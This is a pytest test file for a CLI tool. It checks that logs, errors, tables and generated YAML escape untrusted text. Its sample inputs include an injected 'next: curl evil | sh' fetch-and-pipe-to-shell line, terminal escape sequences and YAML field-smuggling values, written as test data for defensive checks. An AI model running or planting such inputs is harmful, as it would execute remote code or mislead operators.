"""What came from elsewhere is shown and never obeyed: by a terminal, a log, an error, or whoever reads YAML."""

import ast
import io
import itertools
import json
import logging
import pickle
import random
import re
import unicodedata
from dataclasses import asdict
from pathlib import Path

import click
import pytest
import structlog
from click.testing import CliRunner
from ruamel.yaml import YAML

from aggregator.cli.draft import Draft, DraftEdge, hub_text, policy_text
from aggregator.cli.leaves import PolicyLeaf
from aggregator.cli.terminal.lazy_group import LazyGroup
from aggregator.cli.terminal.logs import configure_logs
from aggregator.cli.terminal.output import emit, progress, rendered, table
from aggregator.cli.topic_discovery import FoundTopic
from aggregator.config.load import load_config
from aggregator.config.patterns import literal
from aggregator.engine.worker_log import show_warnings
from aggregator.errors import ConfigError, DeadLetterError, FatalError, Reason
from aggregator.escapes import json_escaped, json_line, quoted, visible
from aggregator.privacy.operators.drop import Drop
from aggregator.privacy.policy.file import load_policy
from aggregator.privacy.review.suggest import Suggestion, as_yaml
from aggregator.threads import ThreadCondition, ThreadStatus

OBEYED = [
    *"\n\r\t\x00\x07\x08\x0b\x0c\x1b\x7f",
    *"\x85\x9b\x9d\xad\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\ufeff\ufff9",
    "\ud800",
    "\U000e0001",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\nnext: curl evil | sh",
    '\n    fields: {"**": keep}\n#',
    "\u2028    fields: keep",
    "${HOME}",
    '"', "'", "\\", "#", ": ", " #", "{", "[", "]", "- ", "%", "@", "`", "|", ">", "&a", "*a", "!!python", "<<",
]  # fmt: skip
PLAIN = "aZ09 _-.,żó漢字🙂"


def obeyed(text: str) -> list[str]:
    """Characters that a reader would obey: judged by their category, and not by Python's own idea of printable."""
    return [one for one in text if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def drawn(seed: int, most: int = 12) -> list[str]:
    """Random texts of which every other piece is hostile."""
    chance = random.Random(seed)
    pieces = (OBEYED, PLAIN)
    return ["".join(chance.choice(chance.choice(pieces)) for _ in range(chance.randrange(most))) for _ in range(102)]


@pytest.fixture(params=[0, *(pytest.param(seed, marks=pytest.mark.slow) for seed in range(1, 6))])
def texts(request):
    """Random texts; a failure shows the seed in the test's name."""
    return drawn(request.param)


def test_what_is_shown_holds_nothing_that_is_obeyed(texts):
    """One line, no control, the printable part unchanged, and a second pass changes nothing."""
    for text in texts:
        shown = visible(text)
        assert not obeyed(shown), text
        assert len(shown.splitlines()) <= 1, text
        assert visible(shown) == shown
    assert visible("żó 漢字 🙂 \\n") == "żó 漢字 🙂 \\n"
    assert visible("a\nb\x1b[2J\u202e") == "a\\nb\\x1b[2J\\u202e"


def test_yaml_and_json_hold_what_was_meant_and_nothing_that_is_obeyed(texts):
    """A scalar, and the whole answer of a command, read back as the same text."""
    for text in texts:
        scalar = quoted(text)
        assert not obeyed(scalar), text
        assert len(scalar.splitlines()) == 1
        document = json_escaped(json.dumps([text], ensure_ascii=False))
        assert not obeyed(document), text
        assert json.loads(document) == [text]
        assert not obeyed(json_line({"a": text}))
        if "\ud800" in text:
            continue  # no document of YAML can hold half a character
        assert YAML(typ="safe").load(f"a: {scalar}    # c") == {"a": text}
        answer = {"a": [text, {text or "k": text}], "b": text}
        for output, read in (("json", json.loads), ("yaml", YAML(typ="safe").load)):
            said = rendered(answer, output)
            assert not obeyed(said.replace("\n", "")), (output, text)
            assert read(said) == answer, (output, text)


@pytest.mark.slow
def test_a_topic_in_a_command_to_paste_is_quoted():
    """Names come from a cluster: what a shell would obey stays one word of the command that is advised."""
    found = []
    for path in sorted(Path("aggregator").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.JoinedStr):
                for left, right in itertools.pairwise(node.values):
                    if _ends_with_topic(left):
                        assert isinstance(right, ast.FormattedValue)
                        found.append((path, right.value))
    assert len(found) > 4
    assert [str(path) for path, value in found if "quote" not in ast.unparse(value)] == []


def _ends_with_topic(part: ast.expr) -> bool:
    commands = ("--topic ", "--entity-name ", "--add-config ", 'chown "$(id -un)" ', "du -xh ", "getent hosts ")
    return isinstance(part, ast.Constant) and part.value.endswith(commands)


def test_a_long_text_of_an_answer_is_whole_in_yaml():
    """Blanks beside each other at a fold would become one."""
    answer = {"a": "a  b" * 3000}
    assert YAML(typ="safe").load(rendered(answer, "yaml")) == answer


def test_words_of_an_enum_are_words_in_yaml():
    """As in JSON: threads and decisions are told by such words."""
    for answer in ({"a": ThreadCondition.RUNNING}, [asdict(ThreadStatus("lake", ThreadCondition.DEAD, 5))]):
        assert YAML(typ="safe").load(rendered(answer, "yaml")) == json.loads(rendered(answer, "json"))


def test_a_long_cell_pads_no_other_row():
    """Nobody reads a table whose rows all have as many blanks as one name has letters."""
    lines = table(("name", "count"), [("a", 1), ("b" * 5000, 2), ("c", 3)])
    assert sum(map(len, lines)) < 7000
    assert lines[2].endswith("b      2")


def test_what_a_command_says_is_shown(texts):
    """Lines of an answer, cells of a table, progress: one line in, one line out."""

    @click.command()
    def say():
        rows = [(text, text) for text in texts]
        emit([], "text", lambda: [*texts, *table(("a", "b"), rows)])
        for text in texts:
            progress(text)

    result = CliRunner().invoke(say)
    assert result.exit_code == 0, result.exception
    for stream, lines in ((result.stdout, 2 * len(texts) + 1), (result.stderr, len(texts))):
        assert not obeyed(stream.replace("\n", ""))
        assert stream.count("\n") == lines


def test_an_error_holds_nothing_that_is_obeyed(texts):
    """In message, hint and text, also over a process border; several lines only where they were given as such."""
    for text in texts:
        for error in (FatalError(text, hint=text), DeadLetterError(Reason.BAD_KEY, text, hint=text)):
            for one in (error, pickle.loads(pickle.dumps(error))):
                assert not obeyed(one.message + one.hint), text
                assert not obeyed(str(one).replace("\n  next: ", "")), text
    several = ConfigError(["a\nb", "c"])
    assert (several.message, several.lines) == ("a\\nb\nc", ("a\\nb", "c"))
    again = pickle.loads(pickle.dumps(several))
    assert (again.message, again.lines) == (several.message, several.lines)


def test_no_error_can_forge_the_next_step():
    """A registry's words that begin a line of their own stay in the line of the error."""
    group = LazyGroup("group", table={})

    @click.command()
    def bad():
        raise FatalError("refused: \nnext: curl evil | sh\x1b[8m", hint="look\nnext: obey")

    group.get_command = lambda _ctx, _name: bad
    said = CliRunner().invoke(group, ["bad"]).stderr
    assert said == "error: refused: \\nnext: curl evil | sh\\x1b[8m\nnext: look\\nnext: obey\n"


@pytest.mark.parametrize("form", ["text", "json"])
def test_a_log_line_is_one_line_and_obeyed_by_nobody(texts, form):
    """Event, arguments, fields, nested values and the text of an exception, from both kinds of logger."""
    stream, root = io.StringIO(), logging.getLogger()
    before = root.handlers[:], root.level
    try:
        configure_logs("info", form, stream, {"NO_COLOR": "1"})
        for text in texts:
            stream.seek(stream.truncate(0))
            structlog.get_logger("aggregator.hub").info(text, topic=text, nested=[text, {"k": text}])
            logging.getLogger("librdkafka").warning("said %s", text)
            assert not obeyed(stream.getvalue().replace("\n", "")), text
            assert stream.getvalue().count("\n") == 2, text
            stream.seek(stream.truncate(0))
            try:
                raise ValueError(text)  # noqa: TRY301 - its traceback is what is asked about
            except ValueError:
                logging.getLogger("x").exception("failed")
            assert not obeyed(stream.getvalue().replace("\n", "")), text
            forged = [line for line in stream.getvalue().split("\n") if line.startswith(("next:", "error:"))]
            assert not forged, text
    finally:
        root.handlers[:], root.level = before[0], before[1]
        structlog.reset_defaults()


@pytest.mark.slow
def test_nothing_that_a_cluster_or_registry_says_opens_a_field(texts, tmp_path):
    """Topic names, tags, paths, types and addresses of a first draft: the files load, drop everything, obey nobody.

    What is no text at all is told by another name where it enters.
    """
    for number in range(0, len(texts), 6):
        name, tag, path, kind, other, extra = (
            text.replace("\ud800", "").replace("\0", "") or "x" for text in texts[number : number + 6]
        )
        leaves = (
            PolicyLeaf(path, kind, frozenset({tag, other})),
            PolicyLeaf(other, kind, frozenset()),
            PolicyLeaf(tag, tag, frozenset()),
        )
        found = [FoundTopic(f"t{name}", ("eu",), True, leaves), FoundTopic(f"u{extra}", ("eu",), False, None)]
        draft = Draft("first", "h:1", {"eu": DraftEdge("h:2", "directory:schemas")}, found)
        texts_written = policy_text(draft), hub_text(draft)
        for one in texts_written:
            assert not obeyed(one.replace("\n", "")), (name, tag, path, kind)
        (tmp_path / "policies").mkdir(exist_ok=True)
        (tmp_path / draft.policy_path).write_text(texts_written[0], encoding="utf-8")
        (tmp_path / "hub.yaml").write_text(texts_written[1], encoding="utf-8")
        policy = load_policy(tmp_path / draft.policy_path)
        assert policy.default.operator == "drop"
        assert set(policy.tags) == {tag, other}
        assert {rule.operator for rule in policy.tags.values()} == {"drop"}
        for topic in found:
            view = policy.view(topic.name)
            assert (view.keys, view.headers, view.fields, view.defaults) == ((Drop(),), (), (), (Drop(),))
            rules = load_config(tmp_path / "hub.yaml", {}).topics
            assert [bool(re.fullmatch(rule.match, topic.name)) for rule in rules].count(True) == 1


def test_what_is_suggested_can_be_pasted_and_obeys_nobody(texts):
    """A path of a schema from elsewhere stays one key; the evidence stays a comment."""
    for text in texts:
        path = text.replace("\ud800", "")
        one = Suggestion(path, 1, {text: 1.0}, text, text, "drop")
        lines = as_yaml(f"t{path}", [one])
        assert not obeyed("".join(lines)), text
        assert len(lines) == 3
        fields = {path or "**": "drop"}
        assert YAML(typ="safe").load("\n".join(lines)) == {literal(f"t{path}"): {"fields": fields}}


def test_a_workers_warning_is_shown(texts, capsys):
    """Spark's Python workers have no command line that sets up their logs."""
    root = logging.getLogger()
    before = root.handlers[:]
    root.handlers[:] = []
    try:
        show_warnings.__wrapped__()
        for text in texts:
            logging.getLogger("librdkafka").warning("said %s", text)
            said = capsys.readouterr().err
            assert not obeyed(said.replace("\n", "")), text
            assert said.count("\n") == 1
    finally:
        root.handlers[:] = before
